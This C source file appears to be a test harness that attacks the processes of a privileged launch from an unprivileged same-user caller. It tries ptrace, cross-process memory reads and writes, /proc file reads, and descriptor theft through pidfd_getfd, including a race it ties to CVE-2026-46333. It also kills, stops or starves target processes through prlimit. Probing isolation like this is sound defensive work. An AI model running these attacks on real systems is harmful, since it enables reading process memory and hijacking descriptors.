/*
 * Tries to get hold of the processes of a launch, as their caller would: same uid, no privilege.
 *
 *	attack_hunt pids PID...                   each attack on each process, once
 *	attack_hunt launches COUNT PROGRAM ARG... starts PROGRAM COUNT times, and all the while attacks it and
 *	                                          the processes born after it, as fast as it can
 *	attack_hunt opener|handle HOW COUNT PROGRAM ARG...  kills, stops or starves (of descriptors) a process of a
 *	                                          launch that is the caller's in every id, a little later each time;
 *	                                          or (mute) has it pass no descriptor on from then on
 *
 * PROGRAM must not execute anything that belongs to the caller (a command that does not exist will do).
 * Says what worked, one line each, and how much was tried; exits 1 when anything worked.
 */
#include <dirent.h>
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kcmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/pidfd.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define NEWBORN 16 /* PIDs behind the program's that may be of its launch */
#define FD_FIRST 3 /* 0-2 are the caller's own */
#define FD_LAST 24

static unsigned long attacks, refused,
    worked; /* refused: by the kernel, of a process that was there */
static pid_t program;

static void
won(pid_t pid, const char *how, long what)
{
	char path[64], comm[32] = "", link[256] = "";
	int fd;

	snprintf(path, sizeof path, "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && read(fd, comm, sizeof comm - 1) < 0)
		comm[0] = '\0';
	if (fd >= 0)
		close(fd);
	comm[strcspn(comm, "\n")] = '\0';
	snprintf(path, sizeof path, "/proc/self/fd/%ld", what);
	if (strcmp(how, "pidfd_getfd") == 0 && readlink(path, link, sizeof link - 1) < 0)
		link[0] = '\0';
	printf("got: %s of %d (%s) %s\n", how, pid, comm, link);
	worked++;
}

/* After an attack: errno says whether there was anybody to refuse it. */
static void
count(void)
{
	attacks++;
	refused += errno == EPERM || errno == EACCES;
	errno = 0;
}

static void
attack_trace(pid_t pid)
{
	errno = 0;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0) {
		won(pid, "PTRACE_SEIZE", -1);
		ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
	count();
}

static void
attack_files(pid_t pid)
{
	static const char *const names[] = {
	    "mem", "maps", "environ", "auxv", "pagemap", "syscall", "stack"};
	static const char *const links[] = {"exe", "cwd", "root", "fd/3", "ns/mnt"};
	char path[64], byte[256];
	ssize_t got;

	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		int fd;

		snprintf(path, sizeof path, "/proc/%d/%s", pid, names[i]);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		count();
		if (fd < 0)
			continue;
		got = i == 0 ? 1 : read(fd, byte, sizeof byte);
		/* "syscall" and "stack" open for everybody. */
		if (got > 0)
			won(pid, names[i], -1);
		close(fd);
	}
	for (size_t i = 0; i < sizeof links / sizeof links[0]; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
		if (readlink(path, byte, sizeof byte) > 0)
			won(pid, links[i], -1);
		count();
	}
}

static void
attack_memory(pid_t pid)
{
	char byte = 0;
	struct iovec local = {&byte, 1}, remote = {(void *)0x1000, 1};

	/* EFAULT: the access was granted, the address was not there. */
	if (process_vm_readv(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
		won(pid, "process_vm_readv", -1);
	count();
	if (process_vm_writev(pid, &local, 1, &remote, 1, 0) >= 0 || errno == EFAULT)
		won(pid, "process_vm_writev", -1);
	count();
}

static void
attack_descriptors(int pidfd, pid_t pid)
{
	for (int i = FD_FIRST; i <= FD_LAST; i++) {
		int fd = pidfd_getfd(pidfd, i, 0);

		count();
		if (fd < 0)
			continue;
		won(pid, "pidfd_getfd", fd);
		/* And says something where it can: whoever is at the other end must not listen. */
		if (write(fd, "\x01\x00\x00\x47\x09\x00\x00\x00", 8) == 8)
			printf("got: and it could be written to\n");
		close(fd);
	}
}

static void
attack_pid(pid_t pid)
{
	int pidfd = pidfd_open(pid, 0);

	attack_trace(pid);
	attack_memory(pid);
	attack_files(pid);
	if (syscall(SYS_kcmp, getpid(), pid, KCMP_FILES, 0, 0) >= 0)
		won(pid, "kcmp", -1);
	count();
	if (pidfd >= 0) {
		attack_descriptors(pidfd, pid);
		close(pidfd);
	}
}

/* Only the descriptors, again and again, and by a pidfd held open past the end: the window of CVE-2026-46333. */
static void
attack_exit(int pidfds[NEWBORN])
{
	for (int i = 0; i < NEWBORN; i++) {
		if (pidfds[i] < 0)
			pidfds[i] = pidfd_open(program + i, 0);
		if (pidfds[i] >= 0)
			attack_descriptors(pidfds[i], program + i);
	}
}

/* Returns when the program has been executed: before, the process is ours. */
static pid_t
start(char **argv, bool quiet)
{
	int ends[2], null;
	char byte;
	pid_t pid;

	if (pipe2(ends, O_CLOEXEC) != 0 || (pid = fork()) < 0)
		err(99, "fork");
	if (pid == 0) {
		null = open("/dev/null", O_RDWR);
		dup2(null, 0);
		if (quiet) {
			dup2(null, 1);
			dup2(null, 2);
		}
		if (null > 2)
			close(null);
		execv(argv[0], argv);
		_exit(99);
	}
	close(ends[1]);
	while (read(ends[0], &byte, 1) < 0 && errno == EINTR)
		;
	close(ends[0]);
	return pid;
}

/* On their way from us to us, and counted as the user's, who may have no more of them than the sender's limit of open files. */
static void
fill_the_air(void)
{
	char byte = 0, space[CMSG_SPACE(64 * sizeof(int))];
	struct iovec iov = {&byte, 1};
	int ends[2], fds[64];

	if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, ends) != 0)
		err(99, "socketpair");
	for (int i = 0; i < 64; i++)
		fds[i] = ends[0];
	for (int i = 0; i < 3; i++) {
		struct msghdr header = {.msg_iov = &iov,
		    .msg_iovlen = 1,
		    .msg_control = space,
		    .msg_controllen = sizeof space};
		struct cmsghdr *control = CMSG_FIRSTHDR(&header);

		control->cmsg_level = SOL_SOCKET;
		control->cmsg_type = SCM_RIGHTS;
		control->cmsg_len = CMSG_LEN(sizeof fds);
		memcpy(CMSG_DATA(control), fds, sizeof fds);
		if (sendmsg(ends[1], &header, 0) < 0)
			err(99, "sendmsg");
	}
}

/* prlimit is refused unless all ids are ours: HANDLE, the program itself, or OPENER, some number behind it. */
static void
spoil(bool handle, const char *how, long delay)
{
	const struct rlimit none = {0, 0};
	struct rlimit limit;
	struct timespec pause = {.tv_nsec = delay};
	pid_t pid = program;

	for (int tries = 0; tries < 200000; tries++) {
		pid = handle ? program : program + 2 + tries % 6;
		if (prlimit(pid, RLIMIT_NOFILE, NULL, &limit) == 0)
			break;
		/* Who wakes up is let in before who runs: spinning, we would share a processor with it in turns of 3 ms. */
		if (tries % 6 == 5)
			nanosleep(&(struct timespec){.tv_nsec = 1000}, NULL);
		if (tries % 1000 == 999 && waitpid(program, NULL, WNOHANG | WNOWAIT) != 0)
			return;
	}
	if (delay)
		nanosleep(&pause, NULL);
	if (strcmp(how, "starve") == 0)
		prlimit(pid, RLIMIT_NOFILE, &none, NULL);
	else if (strcmp(how, "mute") == 0) {
		const struct rlimit few = {64, limit.rlim_max};

		prlimit(pid, RLIMIT_NOFILE, &few, NULL);
	} else
		kill(pid, strcmp(how, "stop") == 0 ? SIGSTOP : SIGKILL);
	/* Who is stopped for good cannot say how it ended. */
	if (handle && strcmp(how, "stop") == 0) {
		nanosleep(&(struct timespec){.tv_nsec = 300000000}, NULL);
		kill(pid, SIGCONT);
	}
}

static int
opener(bool handle, const char *how, int times, char **argv)
{
	int status;

	prctl(PR_SET_TIMERSLACK, 1);
	if (strcmp(how, "mute") == 0)
		fill_the_air();
	for (int i = 0; i < times; i++) {
		program = start(argv, false);
		spoil(handle, how, i % 40 * 50000L);
		waitpid(program, &status, 0);
	}
	return 0;
}

static int
hunt(int times, char **argv)
{
	int pidfds[NEWBORN], status, odd = 0;

	for (int i = 0; i < times; i++) {
		for (int j = 0; j < NEWBORN; j++)
			pidfds[j] = -1;
		program = start(argv, true);
		while (waitpid(program, &status, WNOHANG) == 0) {
			/* By turns: every way in, and the exit window alone. */
			if (i % 2)
				attack_exit(pidfds);
			else
				for (int j = 0; j < NEWBORN; j++)
					attack_pid(program + j);
		}
		if (i % 2)
			for (int j = 0; j < 20; j++)
				attack_exit(pidfds);
		for (int j = 0; j < NEWBORN; j++)
			if (pidfds[j] >= 0)
				close(pidfds[j]);
		if (!WIFEXITED(status) || WEXITSTATUS(status) != 127)
			odd = status;
	}
	if (odd) {
		printf("got: a launch that ended with wait status %#x\n", odd);
		worked++;
	}
	printf(
	    "%d launches, %lu attacks, %lu refused, %lu worked\n", times, attacks, refused, worked);
	return worked ? 1 : 0;
}

int
main(int argc, char **argv)
{
	if (argc > 3 && strcmp(argv[1], "launches") == 0)
		return hunt(atoi(argv[2]), argv + 3);
	if (argc > 4 && (strcmp(argv[1], "opener") == 0 || strcmp(argv[1], "handle") == 0))
		return opener(argv[1][0] == 'h', argv[2], atoi(argv[3]), argv + 4);
	if (argc < 3 || strcmp(argv[1], "pids") != 0)
		errx(99, "wrong usage");
	for (int i = 2; i < argc; i++)
		attack_pid(atoi(argv[i]));
	printf("%d processes, %lu attacks, %lu refused, %lu worked\n", argc - 2, attacks, refused,
	    worked);
	return worked ? 1 : 0;
}
